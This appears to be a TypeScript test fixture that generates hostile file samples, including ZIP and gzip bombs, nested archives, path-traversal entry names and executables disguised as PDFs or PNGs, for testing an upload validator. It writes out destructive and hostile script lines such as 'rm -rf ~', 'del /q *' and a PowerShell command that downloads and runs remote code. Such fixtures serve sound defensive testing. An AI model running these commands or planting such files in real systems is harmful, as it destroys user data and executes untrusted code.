import { crc32, deflateRawSync, gzipSync } from "node:zlib";
import { type HostileFile, hostile, latin, PWN } from "./hostile-file.ts";

/** A ZIP archive with these files. */
export function zip(files: Record<string, Buffer | string>): Buffer {
  const entries: Buffer[] = [];
  const list: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(files)) {
    const bytes = Buffer.from(content as string);
    const packed = deflateRawSync(bytes);
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(crc32(bytes), 10);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(bytes.length, 18);
    facts.writeUInt16LE(Buffer.byteLength(name), 22);
    const entry = Buffer.concat([latin("PK\x03\x04"), facts, Buffer.from(name), packed]);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(offset, 10);
    list.push(Buffer.concat([latin("PK\x01\x02\x14\x00"), facts, rest, Buffer.from(name)]));
    entries.push(entry);
    offset += entry.length;
  }
  const directory = Buffer.concat(list);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(list.length, 4);
  end.writeUInt16LE(list.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...entries, directory, latin("PK\x05\x06"), end]);
}

const zeros = Buffer.alloc(100_000_000);
const word = (main: string, more: Record<string, string> = {}) =>
  zip({
    "[Content_Types].xml": `<Types><Override PartName="/x" ContentType="${main}"/></Types>`,
    "word/document.xml": "<w:document/>",
    ...more,
  });
const OPEN = "application/vnd.openxmlformats-officedocument";

export const archives = (): HostileFile[] => [
  hostile("ZIP", "a.zip", "application/zip", zip({ "a.txt": "a" })),
  hostile("ZIP bomb", "a.zip", "application/zip", zip({ "a.txt": zeros })),
  hostile("ZIP bomb called PDF", "statutes.pdf", "application/pdf", zip({ "a.txt": zeros })),
  hostile("ZIP in a ZIP in a ZIP", "a.zip", "application/zip", zip({ "b.zip": zip({ "c.zip": zip({ "d.txt": zeros }) }) })),
  hostile("ZIP with names that lead out", "a.zip", "application/zip", zip({ "../../../../tmp/pwn": "x", "C:\\pwn": "x" })),
  hostile("Word", "a.docx", `${OPEN}.wordprocessingml.document`, word(`${OPEN}.wordprocessingml.document.main+xml`)),
  hostile(
    "Word with macros",
    "a.docm",
    "application/vnd.ms-word",
    word("application/vnd.ms-word.document.macroEnabled.main+xml", { "word/vbaProject.bin": "x" }),
  ),
  hostile("Excel called PDF", "fees.pdf", "application/pdf", zip({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>" })),
  hostile("OpenDocument", "a.odt", "application/vnd.oasis.opendocument.text", zip({ mimetype: "application/vnd.oasis.opendocument.text" })),
  hostile("an old Office file", "a.doc", "application/msword", Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)])),
  hostile("gzip bomb", "a.gz", "application/gzip", gzipSync(zeros)),
  hostile("RAR", "a.rar", "application/vnd.rar", latin("Rar!\x1a\x07\x01\x00xxxx")),
  hostile("7z", "a.7z", "application/x-7z-compressed", Buffer.from("377abcaf271c0004", "hex")),
  hostile("Java archive called PNG", "logo.png", "image/png", zip({ "META-INF/MANIFEST.MF": "Main-Class: Pwn", "Pwn.class": "x" })),
];

export const programs = (): HostileFile[] => [
  hostile("Windows program", "setup.exe", "application/octet-stream", latin(`MZ\x90\x00${"\x00".repeat(200)}PE\x00\x00`)),
  hostile("Windows program called PDF", "invoice.pdf.exe", "application/pdf", latin(`MZ\x90\x00${"\x00".repeat(200)}`)),
  hostile("Linux program", "run", "application/octet-stream", latin(`\x7fELF\x02\x01\x01${"\x00".repeat(60)}`)),
  hostile("Mac program", "run", "application/octet-stream", Buffer.from("cffaedfe07000001", "hex")),
  hostile("shell script called PNG", "logo.png", "image/png", "#!/bin/sh\nrm -rf ~"),
  hostile("batch file", "a.bat", "text/plain", "@echo off\r\ndel /q *"),
  hostile("PowerShell", "a.ps1", "text/plain", "Invoke-Expression (iwr http://x)"),
  hostile("Visual Basic script", "a.vbs", "text/vbscript", 'CreateObject("WScript.Shell").Run "calc"'),
  hostile("Windows shortcut", "a.lnk", "application/octet-stream", Buffer.from("4c0000000114020000000000c000000000000046", "hex")),
  hostile("WebAssembly", "a.wasm", "application/wasm", Buffer.from("0061736d01000000", "hex")),
  hostile("Java class", "A.class", "application/java-vm", Buffer.from("cafebabe00000034", "hex")),
  hostile("HTML application", "a.hta", "application/hta", `<hta:application><script>${PWN}</script>`),
];
